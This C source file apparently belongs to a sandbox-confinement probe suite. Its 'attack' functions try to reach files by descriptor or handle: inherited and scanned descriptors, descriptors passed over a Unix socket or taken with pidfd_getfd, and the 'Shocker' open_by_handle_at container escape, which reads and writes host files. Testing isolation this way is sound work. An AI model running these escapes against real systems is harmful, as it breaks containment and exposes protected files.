/* What is reached by a number rather than a name. */
#include "probe.h"

static void inherited(char **a) {
    char text[256] = {0};
    TRY(pread(atoi(a[0]), text, 128, 0));
    puts(text);
}

static void beside_inherited(char **a) { cat_fd(TRY(openat(atoi(a[0]), a[1], O_RDONLY))); }

static void any_inherited(char **a) {
    (void)a;
    for (int fd = 3; fd < 1024; fd++) {
        char text[256] = {0};
        if (pread(fd, text, 128, 0) > 0) puts(text);
    }
}

static void passed(char **a) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    snprintf(to.sun_path, sizeof to.sun_path, "%s", a[0]);
    int socket_ = TRY(socket(AF_UNIX, SOCK_STREAM, 0));
    TRY(connect(socket_, (void *)&to, sizeof to));
    char byte, control[CMSG_SPACE(sizeof(int))];
    struct iovec part = {&byte, 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    TRY(recvmsg(socket_, &message, 0));
    struct cmsghdr *first = CMSG_FIRSTHDR(&message);
    if (!first) fail("no descriptor came");
    int fd;
    memcpy(&fd, CMSG_DATA(first), sizeof fd);
    cat_fd(fd);
}

static void taken(char **a) {
    int process = TRY(syscall(SYS_pidfd_open, atoi(a[0]), 0));
    int fd = TRY(syscall(SYS_pidfd_getfd, process, atoi(a[1]), 0));
    char text[256] = {0};
    TRY(pread(fd, text, 128, 0));
    puts(text);
}

/* "Shocker": by inode number instead of name, out of any mount. */
static void by_handle(char **a) {
    struct {
        struct file_handle head;
        uint32_t inode, generation;
    } root = {{.handle_bytes = 8, .handle_type = 1}, 2, 0};
    int mount = TRY(open(a[0], O_RDONLY));
    int top = TRY(open_by_handle_at(mount, &root.head, O_RDONLY));
    cat_fd(TRY(openat(top, a[1] + 1, O_RDONLY)));
}

static void own_handle(char **a) {
    char room[sizeof(struct file_handle) + 128];
    struct file_handle *handle = (void *)room;
    int mount;
    handle->handle_bytes = 128;
    TRY(name_to_handle_at(AT_FDCWD, a[0], handle, &mount, 0));
    int fd = TRY(open_by_handle_at(TRY(open(a[1], O_RDONLY)), handle, O_WRONLY));
    TRY(write(fd, mark, strlen(mark)));
}

const struct attack descriptors[] = {{"inherited", inherited}, {"beside-inherited", beside_inherited},
                                     {"any-inherited", any_inherited}, {"passed", passed}, {"taken", taken},
                                     {"by-handle", by_handle}, {"own-handle", own_handle}, {NULL, NULL}};
